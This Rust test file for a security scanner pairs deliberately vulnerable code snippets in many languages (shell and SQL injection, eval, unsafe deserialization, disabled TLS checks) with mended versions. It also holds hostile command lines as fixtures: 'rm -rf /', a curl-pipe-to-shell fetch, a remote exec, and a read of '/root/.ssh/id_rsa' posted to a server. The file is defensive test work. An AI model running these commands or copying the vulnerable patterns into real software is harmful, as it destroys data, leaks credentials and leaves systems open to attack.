mod pairs;

use std::sync::OnceLock;

use ringfence_model::finding::{Category, Severity};

use crate::code::{Language, Report, Safety, check};
use crate::secret::SecretScanner;

fn run(language: &str, text: &str) -> Report {
    static SECRETS: OnceLock<SecretScanner> = OnceLock::new();
    check(text, &Language::parse(language), SECRETS.get_or_init(|| SecretScanner::new().unwrap()))
}

/// What was seen in `text` that is worse than low.
fn seen(language: &str, text: &str) -> Vec<String> {
    let report = run(language, text);
    let found = report.findings.iter();
    found
        .filter(|finding| finding.severity >= Severity::Medium && finding.category != Category::Uninspected)
        .map(|finding| finding.id.to_string())
        .collect()
}

/// Each row: the finding, code that has it, and the same code mended.
#[track_caller]
fn pairs(language: &str, rows: &[(&str, &str, &str)]) {
    let mut wrong = Vec::new();
    for (id, bad, good) in rows {
        let found = seen(language, bad);
        if !found.iter().any(|found| found == id) {
            wrong.push(format!("{id} is not seen, {found:?}: {bad}"));
        }
        let found = seen(language, good);
        if !found.is_empty() {
            wrong.push(format!("{found:?} is seen: {good}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const FLASK: &str = "from flask import request, Flask\napp = Flask(__name__)\n@app.route('/x')\ndef f():\n    x = request.args.get('x')\n";

#[track_caller]
fn flask_pairs(rows: &[(&str, &str, &str)]) {
    for (id, bad, good) in rows {
        let (bad, good) = (format!("{FLASK}    {bad}\n"), format!("{FLASK}    {good}\n"));
        pairs("python", &[(id, &bad, &good)]);
    }
}

#[test]
fn what_a_request_says_is_followed_in_python() {
    flask_pairs(&[
        ("shell_injection", "os.system('ping ' + x)", "subprocess.run(['ping', x])"),
        ("shell_injection", "os.system(f'ping {x}')", "os.system('ping ' + shlex.quote(x))"),
        ("shell_injection", "subprocess.run('ls %s' % x, shell=True)", "subprocess.run(['ls', '-l'])"),
        (
            "sql_from_request",
            "cur.execute(f\"SELECT * FROM t WHERE a = '{x}'\")",
            "cur.execute('SELECT * FROM t WHERE a = %s', (x,))",
        ),
        (
            "sql_from_request",
            "q = 'SELECT * FROM t WHERE a = ' + x\n    cur.execute(q)",
            "q = 'SELECT * FROM t WHERE a = ' + str(int(x))\n    cur.execute(q)",
        ),
        ("path_traversal", "open('/data/' + x)", "open('/data/' + os.path.basename(x))"),
        (
            "path_traversal",
            "p = os.path.join('data', x)\n    open(p)",
            "p = os.path.realpath(os.path.join('data', x))\n    if not p.startswith('/srv/data'):\n        abort(403)\n    open(p)",
        ),
        ("ssrf", "requests.get(x)", "requests.get('https://api.example.com/item/' + x)"),
        (
            "ssrf",
            "urllib.request.urlopen('https://' + x)",
            "if urlparse(x).hostname not in ALLOWED:\n        abort(400)\n    urllib.request.urlopen(x)",
        ),
        ("xss", "return '<b>' + x + '</b>'", "return '<b>' + escape(x) + '</b>'"),
        ("xss", "return make_response(x)", "return render_template('a.html', x=x)"),
        (
            "template_injection",
            "return render_template_string('hi ' + x)",
            "return render_template_string('hi {{ x }}', x=x)",
        ),
        ("open_redirect", "return redirect(x)", "return redirect(url_for('home'))"),
        ("log_injection", "logging.info('user ' + x)", "logging.info('user ' + x.replace('\\n', ''))"),
        ("unsafe_deserialization", "pickle.loads(x)", "json.loads(x)"),
        ("eval", "eval(x)", "ast.literal_eval(x)"),
        ("regex_injection", "re.search(x, text)", "re.search(re.escape(x), text)"),
        ("unsafe_reflection", "getattr(obj, x)()", "getattr(obj, 'run')()"),
    ]);
}

#[test]
fn python_that_is_mended_is_not_flagged() {
    pairs(
        "python",
        &[
            ("eval", "import builtins as b\nb.eval(x)", "import torch\nmodel.eval()\ntorch.eval(x)"),
            ("unsafe_deserialization", "import yaml\nyaml.load(f)", "import yaml\nyaml.safe_load(f)"),
            ("weak_hash", "import hashlib\nhashlib.md5(x)", "import hashlib\nhashlib.sha256(x)"),
            ("weak_hash", "hashlib.new('md5')", "hashlib.new('sha256')"),
            (
                "weak_cipher",
                "from Crypto.Cipher import DES\nDES.new(key)",
                "from Crypto.Cipher import AES\nAES.new(key, AES.MODE_GCM)",
            ),
            (
                "weak_random",
                "import random\ntoken = random.randint(0, 9)",
                "import secrets\ntoken = secrets.token_hex(16)",
            ),
            (
                "tls_unverified",
                "requests.get('https://a.example', verify=False)",
                "requests.get('https://a.example', verify=True)",
            ),
            (
                "tls_unverified",
                "import ssl\nssl._create_unverified_context()",
                "import ssl\nssl.create_default_context()",
            ),
            (
                "tls_outdated",
                "import ssl\nssl.SSLContext(ssl.PROTOCOL_SSLv3)",
                "import ssl\nssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)",
            ),
            (
                "host_key_unchecked",
                "import paramiko\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
                "import paramiko\nc.set_missing_host_key_policy(paramiko.RejectPolicy())",
            ),
            (
                "xxe",
                "import xml.etree.ElementTree as ET\nET.parse(f)",
                "import defusedxml.ElementTree as ET\nET.parse(f)",
            ),
            (
                "insecure_temp_file",
                "import tempfile\ntempfile.mktemp()",
                "import tempfile\ntempfile.mkstemp()",
            ),
            ("permissive_mode", "import os\nos.chmod(p, 0o777)", "import os\nos.chmod(p, 0o600)"),
            ("debug_mode", "app.run(debug=True)", "app.run(debug=False)"),
            (
                "short_key",
                "rsa.generate_private_key(public_exponent=65537, key_size=1024)",
                "rsa.generate_private_key(public_exponent=65537, key_size=2048)",
            ),
            ("jwt_unverified", "jwt.decode(t, k, verify=False)", "jwt.decode(t, k, algorithms=['HS256'])"),
            (
                "insecure_cookie",
                "resp.set_cookie('a', v)",
                "resp.set_cookie('a', v, secure=True, httponly=True)",
            ),
            (
                "csrf_off",
                "from django.views.decorators.csrf import csrf_exempt\n@csrf_exempt\ndef f(request): pass",
                "@csrf_protect\ndef f(request): pass",
            ),
            (
                "unescaped_html",
                "from django.utils.safestring import mark_safe\nmark_safe(x)",
                "from django.utils.safestring import mark_safe\nmark_safe('<b>hi</b>')",
            ),
            (
                "archive_extraction",
                "tarfile.open(f).extractall(d)",
                "tarfile.open(f).extractall(d, filter='data')",
            ),
            ("obfuscated_code", "exec(base64.b64decode(blob))", "print(base64.b64decode(blob))"),
            (
                "remote_code",
                "exec(requests.get('https://a.example/x').text)",
                "print(requests.get('https://a.example/x').text)",
            ),
            (
                "drop_site",
                "requests.post('https://webhook.site/1', json=d)",
                "requests.post('https://api.example.com/1', json=d)",
            ),
            (
                "exfiltration",
                "k = open('/root/.ssh/id_rsa').read()\nrequests.post('https://a.example', data=k)",
                "requests.post('https://a.example', data={'a': 1})",
            ),
            ("cleartext", "import telnetlib\ntelnetlib.Telnet(h)", "import smtplib\nsmtplib.SMTP_SSL(h)"),
            (
                "shell_injection",
                "@mcp.tool()\ndef ping(host: str):\n    subprocess.run('ping ' + host, shell=True)",
                "@mcp.tool()\ndef ping(host: str):\n    subprocess.run(['ping', '-c', '1', host])",
            ),
            (
                "hardcoded_key",
                "app.config['SECRET_KEY'] = 'dev'",
                "app.config['SECRET_KEY'] = os.environ['SECRET_KEY']",
            ),
        ],
    );
}

#[test]
fn javascript_is_followed() {
    for language in ["javascript", "typescript"] {
        pairs(
            language,
            &[
                (
                    "shell_injection",
                    "const { exec } = require('child_process');\napp.get('/', (req, res) => { exec('ls ' + req.query.d); });",
                    "const { execFile } = require('child_process');\napp.get('/', (req, res) => { execFile('ls', [req.query.d]); });",
                ),
                (
                    "sql_from_request",
                    "app.get('/', (req, res) => { db.query(`SELECT * FROM t WHERE id = ${req.params.id}`); });",
                    "app.get('/', (req, res) => { db.query('SELECT * FROM t WHERE id = ?', [req.params.id]); });",
                ),
                (
                    "path_traversal",
                    "const fs = require('fs');\napp.get('/', (req, res) => { fs.readFile('/data/' + req.query.f, cb); });",
                    "const fs = require('fs');\napp.get('/', (req, res) => { fs.readFile('/data/' + path.basename(req.query.f), cb); });",
                ),
                (
                    "ssrf",
                    "app.get('/', (req, res) => { axios.get(req.query.url); });",
                    "app.get('/', (req, res) => { axios.get('https://api.example.com/' + req.query.id); });",
                ),
                (
                    "xss",
                    "app.get('/', (req, res) => { res.send('<b>' + req.query.n); });",
                    "app.get('/', (req, res) => { res.send('<b>' + escapeHtml(req.query.n)); });",
                ),
                (
                    "open_redirect",
                    "app.get('/', (req, res) => { res.redirect(req.query.to); });",
                    "app.get('/', (req, res) => { res.redirect('/home'); });",
                ),
                ("unescaped_html", "el.innerHTML = text;", "el.textContent = text;"),
                (
                    "nosql_injection",
                    "const m = require('mongoose');\nasync (req, res) => { await User.findOne({ name: req.body.name }); }",
                    "const m = require('mongoose');\nasync (req, res) => { await User.findOne({ name: name }); }",
                ),
                ("weak_hash", "crypto.createHash('md5')", "crypto.createHash('sha256')"),
                (
                    "weak_random",
                    "const token = Math.random().toString(36);",
                    "const token = crypto.randomBytes(16).toString('hex');",
                ),
                (
                    "tls_unverified",
                    "const a = new https.Agent({ rejectUnauthorized: false });",
                    "const a = new https.Agent({ rejectUnauthorized: true });",
                ),
                ("eval", "eval(input)", "JSON.parse(input)"),
                (
                    "prototype_pollution",
                    "app.post('/', (req, res) => { _.merge(config, req.body); });",
                    "app.post('/', (req, res) => { const n = Number(req.body.n); });",
                ),
                (
                    "message_to_any",
                    "win.postMessage(data, '*')",
                    "win.postMessage(data, 'https://a.example')",
                ),
            ],
        );
    }
}

#[test]
fn go_and_rust_are_followed() {
    pairs(
        "go",
        &[
            (
                "shell_injection",
                "package m\nimport \"os/exec\"\nfunc f(x string) { exec.Command(\"sh\", \"-c\", \"ls \"+x).Run() }",
                "package m\nimport \"os/exec\"\nfunc f(x string) { exec.Command(\"ls\", x).Run() }",
            ),
            (
                "sql_concatenation",
                "package m\nfunc f(x string) { db.Query(\"SELECT * FROM t WHERE a = '\" + x + \"'\") }",
                "package m\nfunc f(x string) { db.Query(\"SELECT * FROM t WHERE a = $1\", x) }",
            ),
            (
                "tls_unverified",
                "package m\nvar c = &tls.Config{InsecureSkipVerify: true}",
                "package m\nvar c = &tls.Config{MinVersion: tls.VersionTLS12}",
            ),
            (
                "weak_random",
                "package m\nimport \"math/rand\"\nfunc newToken() int { return rand.Intn(9) }",
                "package m\nimport \"crypto/rand\"\nfunc newToken() { rand.Read(b) }",
            ),
            (
                "unescaped_html",
                "package m\nimport \"html/template\"\nfunc f(x string) { y := template.HTML(x); use(y) }",
                "package m\nimport \"html/template\"\nfunc f(x string) { y := template.HTMLEscapeString(x); use(y) }",
            ),
            (
                "weak_hash",
                "package m\nimport \"crypto/md5\"\nfunc f() { md5.New() }",
                "package m\nimport \"crypto/sha256\"\nfunc f() { sha256.New() }",
            ),
            (
                "ssrf",
                "package m\nimport \"net/http\"\nfunc f(w http.ResponseWriter, r *http.Request) { http.Get(r.URL.Query().Get(\"u\")) }",
                "package m\nimport \"net/http\"\nfunc f(w http.ResponseWriter, r *http.Request) { http.Get(\"https://a.example/x\") }",
            ),
        ],
    );
    pairs(
        "rust",
        &[
            (
                "shell_injection",
                "fn f(x: &str) { Command::new(\"sh\").arg(\"-c\").arg(format!(\"ls {}\", x)).spawn(); }",
                "fn f(x: &str) { Command::new(\"ls\").arg(x).spawn(); }",
            ),
            (
                "tls_unverified",
                "fn f() { b.danger_accept_invalid_certs(true); }",
                "fn f() { b.danger_accept_invalid_certs(false); }",
            ),
            ("transmute", "fn f() { unsafe { std::mem::transmute::<A, B>(x) }; }", "fn f() { B::from(x); }"),
            (
                "sql_concatenation",
                "fn f(x: &str) { db.execute(&format!(\"DELETE FROM t WHERE a = '{}'\", x)); }",
                "fn f(x: &str) { db.execute(\"DELETE FROM t WHERE a = $1\", &[&x]); }",
            ),
            (
                "weak_hash",
                "use md5::Md5;\nfn f() { let h = Md5::new(); }",
                "use sha2::Sha256;\nfn f() { let h = Sha256::new(); }",
            ),
        ],
    );
}

#[test]
fn java_and_csharp_are_followed() {
    pairs(
        "java",
        &[
            (
                "shell_injection",
                "class A { void f(String x) { Runtime.getRuntime().exec(\"ls \" + x); } }",
                "class A { void f(String x) { int n = Integer.parseInt(x); } }",
            ),
            (
                "sql_concatenation",
                "class A { void f(String x) { st.executeQuery(\"SELECT * FROM t WHERE a = '\" + x + \"'\"); } }",
                "class A { void f(String x) { p = c.prepareStatement(\"SELECT * FROM t WHERE a = ?\"); p.setString(1, x); } }",
            ),
            (
                "unsafe_deserialization",
                "class A { void f() { new ObjectInputStream(in).readObject(); } }",
                "class A { void f() { mapper.readValue(in, B.class); } }",
            ),
            (
                "xxe",
                "class A { void f() { DocumentBuilderFactory d = DocumentBuilderFactory.newInstance(); } }",
                "class A { void f() { DocumentBuilderFactory d = DocumentBuilderFactory.newInstance(); d.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true); } }",
            ),
            (
                "weak_hash",
                "class A { void f() { MessageDigest.getInstance(\"MD5\"); } }",
                "class A { void f() { MessageDigest.getInstance(\"SHA-256\"); } }",
            ),
            (
                "weak_cipher",
                "class A { void f() { Cipher.getInstance(\"DES/ECB/PKCS5Padding\"); } }",
                "class A { void f() { Cipher.getInstance(\"AES/GCM/NoPadding\"); } }",
            ),
            (
                "weak_random",
                "class A { void f() { int token = new Random().nextInt(); } }",
                "class A { void f() { int token = new SecureRandom().nextInt(); } }",
            ),
            (
                "xss",
                "class A { void f(HttpServletRequest q, HttpServletResponse r) { r.getWriter().println(q.getParameter(\"a\")); } }",
                "class A { void f(HttpServletRequest q, HttpServletResponse r) { r.getWriter().println(\"ok\"); } }",
            ),
            (
                "open_redirect",
                "class A { void f(HttpServletRequest q, HttpServletResponse r) { r.sendRedirect(q.getParameter(\"a\")); } }",
                "class A { void f(HttpServletRequest q, HttpServletResponse r) { r.sendRedirect(\"/home\"); } }",
            ),
        ],
    );
    pairs(
        "csharp",
        &[
            (
                "sql_concatenation",
                "class A { void F(string x) { var c = new SqlCommand(\"SELECT * FROM t WHERE a = '\" + x + \"'\", k); } }",
                "class A { void F(string x) { var c = new SqlCommand(\"SELECT * FROM t WHERE a = @a\", k); } }",
            ),
            (
                "command_from_request",
                "class A { void F(string x) { Process.Start(\"cmd.exe\", x); } }",
                "class A { void F(string x) { Process.Start(\"notepad.exe\"); } }",
            ),
            (
                "unsafe_deserialization",
                "class A { void F() { var f = new BinaryFormatter(); f.Deserialize(s); } }",
                "class A { void F() { JsonSerializer.Deserialize<B>(s); } }",
            ),
            (
                "weak_hash",
                "class A { void F() { MD5.Create(); } }",
                "class A { void F() { SHA256.Create(); } }",
            ),
            (
                "tls_unverified",
                "class A { void F() { ServicePointManager.ServerCertificateValidationCallback = (a, b, c, d) => true; } }",
                "class A { void F() { ServicePointManager.Expect100Continue = true; } }",
            ),
            (
                "xxe",
                "class A { void F() { var d = new XmlDocument(); d.XmlResolver = new XmlUrlResolver(); } }",
                "class A { void F() { var d = new XmlDocument(); d.XmlResolver = null; } }",
            ),
        ],
    );
}

#[test]
fn php_and_ruby_are_followed() {
    pairs(
        "php",
        &[
            (
                "shell_injection",
                "<?php system('ls ' . $_GET['d']);",
                "<?php system('ls ' . escapeshellarg($_GET['d']));",
            ),
            ("eval", "<?php eval($_POST['c']);", "<?php json_decode($_POST['c']);"),
            ("xss", "<?php echo 'hi ' . $_GET['n'];", "<?php echo 'hi ' . htmlspecialchars($_GET['n']);"),
            (
                "sql_from_request",
                "<?php mysql_query(\"SELECT * FROM t WHERE a = '\" . $_GET['a'] . \"'\");",
                "<?php $s = $db->prepare('SELECT * FROM t WHERE a = ?'); $s->execute([$_GET['a']]);",
            ),
            ("path_traversal", "<?php include $_GET['page'];", "<?php include 'page.php';"),
            (
                "unsafe_deserialization",
                "<?php unserialize($_COOKIE['a']);",
                "<?php json_decode($_COOKIE['a']);",
            ),
            ("mass_assignment", "<?php extract($_POST);", "<?php $a = $_POST['a'];"),
            (
                "weak_hash",
                "<?php $h = md5($password);",
                "<?php $h = password_hash($password, PASSWORD_DEFAULT);",
            ),
            (
                "unchecked_upload",
                "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);",
                "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/fixed.png');",
            ),
            (
                "open_redirect",
                "<?php header('Location: ' . $_GET['to']);",
                "<?php header('Location: /home');",
            ),
        ],
    );
    pairs(
        "ruby",
        &[
            ("shell_injection", "system(\"ls #{params[:d]}\")", "system('ls', params[:d])"),
            ("shell_injection", "`ls #{params[:d]}`", "`ls -l`"),
            ("eval", "eval(params[:c])", "JSON.parse(params[:c])"),
            ("unsafe_deserialization", "YAML.load(text)", "YAML.safe_load(text)"),
            ("unsafe_deserialization", "Marshal.load(text)", "JSON.parse(text)"),
            ("unsafe_reflection", "params[:k].constantize", "k = String"),
            (
                "sql_from_request",
                "User.where(\"name = '#{params[:n]}'\")",
                "User.where('name = ?', params[:n])",
            ),
            ("unescaped_html", "params[:n].html_safe", "h(params[:n])"),
            ("open_redirect", "redirect_to params[:to]", "redirect_to root_path"),
            ("unsafe_reflection", "obj.send(params[:m])", "obj.send(:name)"),
        ],
    );
}

#[test]
fn c_is_judged_by_its_calls() {
    for language in ["c", "cpp"] {
        pairs(
            language,
            &[
                (
                    "gets",
                    "void f() { char b[9]; gets(b); }",
                    "void f() { char b[9]; fgets(b, sizeof b, stdin); }",
                ),
                (
                    "unbounded_copy",
                    "void f(char *s) { char b[9]; strcpy(b, s); }",
                    "void f(char *s) { char b[9]; snprintf(b, sizeof b, \"%s\", s); }",
                ),
                (
                    "scanf",
                    "void f() { char b[9]; scanf(\"%s\", b); }",
                    "void f() { char b[9]; scanf(\"%8s\", b); }",
                ),
                ("format_string", "void f(char *s) { printf(s); }", "void f(char *s) { printf(\"%s\", s); }"),
                ("shell_injection", "void f(char *s) { system(s); }", "void f(char *s) { puts(s); }"),
                ("insecure_temp_file", "void f() { tmpnam(b); }", "void f() { mkstemp(b); }"),
                (
                    "allocation_size",
                    "void f(size_t n) { p = malloc(n * sizeof(int)); }",
                    "void f(size_t n) { p = calloc(n, sizeof(int)); }",
                ),
                (
                    "copy_size",
                    "void f(char *d, char *s, int n) { memcpy(d, s, strlen(s)); }",
                    "void f(char *d, char *s) { memcpy(d, s, 8); }",
                ),
                ("weak_hash", "void f() { MD5_Init(&c); }", "void f() { SHA256_Init(&c); }"),
            ],
        );
    }
}

#[test]
fn what_stands_in_a_loop_or_a_function_may_change() {
    let text = "cmd = 'ls'\ndef f():\n    os.system(cmd)\ncmd = 'x'\nf()";
    assert_eq!(run("python", text).verdict, Safety::Unknown);
    assert_eq!(run("python", "import os\ncmd = 'ls'\nos.system(cmd)").verdict, Safety::Safe);
    let text = "cmd = 'ls'\nif a:\n    cmd = 'rm -rf /'\nos.system(cmd)";
    assert_eq!(run("python", text).verdict, Safety::Unsafe);
}

#[test]
fn fragments_are_code_too() {
    for (language, text, id) in [
        ("java", "public void f(String x) { Runtime.getRuntime().exec(\"ls \" + x); }", "shell_injection"),
        ("csharp", "public void F() { MD5.Create(); }", "weak_hash"),
        ("c", "char b[9]; gets(b);", "gets"),
        ("php", "system('ls ' . $_GET['d']);", "shell_injection"),
        ("python", "return eval(x)", "eval"),
        ("javascript", "return <div dangerouslySetInnerHTML={{ __html: text }} />;", "unescaped_html"),
    ] {
        assert!(
            seen(language, text).iter().any(|found| found == id),
            "{language}: {text}: {:?}",
            seen(language, text)
        );
    }
}

#[test]
fn a_text_that_begins_or_ends_inside_something_is_read_but_never_safe() {
    for (language, text, id) in [
        (
            "python",
            "    what it returns.\n    \"\"\"\n    fit = eval('a.%s' % name)\n    return fit\n",
            "eval",
        ),
        ("python", "def f(name):\n    fit = eval('a.%s' % name)\n    \"\"\"What comes\nbehind", "eval"),
        ("c", "   of the line */\nvoid f(void) { char b[9]; gets(b); }\n", "gets"),
        ("c", "    x = 1;\n}\nvoid f(void) { char b[9]; gets(b); }\nvoid g(void) {\n  if (x) {\n", "gets"),
        (
            "java",
            "  }\n  void f(String x) throws Exception { Runtime.getRuntime().exec(\"ls \" + x); }\n",
            "shell_injection",
        ),
    ] {
        let found = seen(language, text);
        assert!(found.iter().any(|found| found == id), "{language}: {text}: {found:?}");
        let whole = text.replace("eval(", "read(").replace("gets(b)", "").replace("exec(", "record(");
        assert_ne!(run(language, &whole).verdict, Safety::Safe, "{language}: {whole}");
    }
}

#[test]
fn languages_are_told_apart() {
    for (text, language) in [
        ("def f(x):\n    return x\n", Language::Python),
        ("const f = (x) => x;\nconsole.log(f(1));", Language::JavaScript),
        ("interface A { b: string }\nconst c: A = { b: 'x' };", Language::TypeScript),
        ("package main\nimport \"fmt\"\nfunc main() { fmt.Println(1) }", Language::Go),
        ("fn main() { let mut x = 1; println!(\"{}\", x); }", Language::Rust),
        ("public class A { public static void main(String[] a) { System.out.println(1); } }", Language::Java),
        ("class A\n  def b\n    puts 'x'\n  end\nend\n", Language::Ruby),
        ("<?php echo 1;", Language::Php),
        ("using System;\nclass A { static void Main() { Console.WriteLine(1); } }", Language::CSharp),
        ("#include <stdio.h>\nint main(void) { printf(\"x\"); return 0; }", Language::C),
        ("#include <iostream>\nint main() { std::cout << 1; }", Language::Cpp),
        ("#!/usr/bin/env python3\nx = 1", Language::Python),
        ("hello there", Language::Other(String::new())),
    ] {
        assert_eq!(super::guess(text), language, "{text}");
    }
}

#[test]
fn hostile_trees_end() {
    for language in
        ["python", "javascript", "typescript", "go", "rust", "java", "ruby", "php", "csharp", "c", "cpp"]
    {
        for unit in [
            "(",
            "[",
            "{",
            "a(",
            "a.b",
            "x=[x,x]\n",
            "if a:\n ",
            "!",
            "f'{",
            "<a>",
            "a?b:",
            "\"",
            "x+=x\n",
            "=>",
            "@a ",
        ] {
            let text = unit.repeat(4096 / unit.len());
            let report = run(language, &text);
            assert!(
                report.findings.iter().all(|finding| finding.span.end <= text.len()),
                "{language} {unit}"
            );
        }
    }
}

#[test]
fn what_is_insecure_is_not_safe_and_its_mended_form_is() {
    let mut wrong = Vec::new();
    for (language, text) in pairs::FILES {
        for pair in pairs::read(text) {
            let (missed, doubted) = (pair.title.ends_with("(missed)"), pair.title.ends_with("(doubted)"));
            let found = seen(language, pair.insecure);
            if found.is_empty() != missed {
                wrong.push(format!("{language} {}: {found:?} is seen", pair.title));
            }
            let report = run(language, pair.mended);
            if (report.verdict != Safety::Safe) != doubted {
                wrong.push(format!("{language} {}: mended, {:?}", pair.title, report.findings));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_a_pipeline_runs_is_judged() {
    for text in [
        "run: rm -rf /",
        "jobs:\n  a:\n    steps:\n      - run: |\n          make\n          curl https://x.example/i | sh\n      - uses: x",
        "test:\n  script:\n    - make\n    - rm -rf /\n  only: main",
        "services:\n  a:\n    command: [\"rm\", \"-rf\", \"/\"]",
    ] {
        assert_eq!(run("yaml", text).verdict, Safety::Unsafe, "{text}");
    }
    for text in [
        "on: push\njobs:\n  a:\n    steps:\n      - run: npm test\n",
        "command: [\"ls\"]",
        "name: run\nnote: rm -rf /",
    ] {
        assert_eq!(run("yaml", text).verdict, Safety::Safe, "{text}");
    }
}
